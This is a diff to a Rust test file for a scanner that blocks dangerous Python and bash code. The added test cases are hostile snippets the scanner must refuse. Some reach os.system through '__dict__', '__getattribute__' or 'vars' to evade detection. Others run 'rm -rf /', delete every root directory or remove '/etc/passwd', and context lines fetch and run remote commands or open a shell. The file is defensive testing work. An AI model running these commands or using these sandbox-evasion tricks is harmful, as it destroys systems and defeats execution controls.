@@ -3,7 +3,7 @@
 
 #![allow(clippy::unwrap_used, reason = "a test fails by panicking")]
 
-use code_execute_policy::{Base, Configuration, Severity, scan_named};
+use code_execute_policy::{Base, Configuration, Severity, rules, scan_named};
 use serde::Deserialize;
 
 /// Own bypasses that `default` stops for an import alone, and what they do with it, which is no harm in itself.
@@ -81,6 +81,10 @@ fn processes_of_os_are_refused_however_they_are_reached() {
         ("import os\nos._execvpe('ls', ['ls'])", "py-os-process"),
         ("import os\ndef __reduce__(self): return (os.system, ('ls',))", "py-os-process"),
         ("import threading, os\nthreading.Thread(target=os.system, args=('ls',)).start()", "py-os-process"),
+        ("from os import __dict__ as d\nd['system']('ls')", "py-os-process"),
+        ("import os\nos.path.__dict__['os'].system('ls')", "py-os-process"),
+        ("import os\ntype(os).__getattribute__(os, 'system')('ls')", "py-os-process"),
+        ("import os\nf = os.__getattribute__\nf('system')('ls')", "py-os-process"),
         ("__import__('os').getcwd()", "py-dunder-import"),
         ("import logging.config\nlogging.config.dictConfig({'a': {'()': 'os.system'}})", "py-os-process"),
         ("import timeit\ntimeit.timeit('import os; os.system(\"ls\")')", "py-os-process"),
@@ -109,6 +113,8 @@ fn modules_out_of_sight_are_refused() {
         ("from glob import os as o", "py-hidden-module"),
         ("from subprocess import Popen as P\nclass Q(P): pass", "py-hidden-module"),
         ("import os\nprint 'x'", "py-hidden-module"),
+        ("import os\nd = dict(vars(os))\nd['system']('ls')", "py-hidden-module"),
+        ("import os\nos.__getattribute__(name)('ls')", "py-hidden-module"),
         ("import pty\npty.spawn('ls')", "py-run-command"),
     ]);
 }
@@ -201,6 +207,7 @@ fn harmful_commands_are_refused() {
             "import requests, subprocess\nsubprocess.run(requests.get('http://x.org').text, shell=True)",
             "py-remote-command",
         ),
+        ("from subprocess import run as r\nr.__call__('rm -rf /', shell=True)", "py-harmful-command"),
         ("import subprocess as s\ns.call(['/bin/bash', '-i'])", "py-open-shell"),
         ("import subprocess as s\ns.Popen(['sudo', 'sh'], stdin=s.PIPE)", "py-open-shell"),
         (
@@ -235,6 +242,8 @@ fn harm_to_files_processes_and_rights_is_refused() {
         ("import shutil\nshutil.rmtree('/usr/lib')", "py-system-write"),
         ("import shutil\nshutil.rmtree('/')", "py-remove-tree"),
         ("import shutil\nshutil.rmtree('../..')", "py-remove-tree"),
+        ("import os, shutil\nfor name in os.listdir('/'): shutil.rmtree('/' + name)", "py-remove-tree"),
+        ("import os\nlist(map(os.remove, ['/etc/passwd']))", "py-open-sensitive"),
         ("import shutil\nshutil.make_archive('x', 'zip', '/etc')", "py-open-sensitive"),
         ("import os, signal\nos.kill(1, signal.SIGKILL)", "py-kill-process"),
         ("import os\nfor pid in pids: os.kill(pid, 9)", "py-kill-process"),
@@ -317,7 +326,10 @@ fn bash_gets_the_same_answer_from_every_base() {
         "python3 -c 'import subprocess; subprocess.run([\"ls\"])'",
         "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
         "$x -rf",
-    ] {
+    ]
+    .into_iter()
+    .chain(rules::bash::ALL.iter().flat_map(|rule| rule.matches.iter().chain(rule.non_matches).copied()))
+    {
         assert_eq!(found(Base::Balanced, "bash", code), found(Base::Default, "bash", code), "{code}");
     }
 }
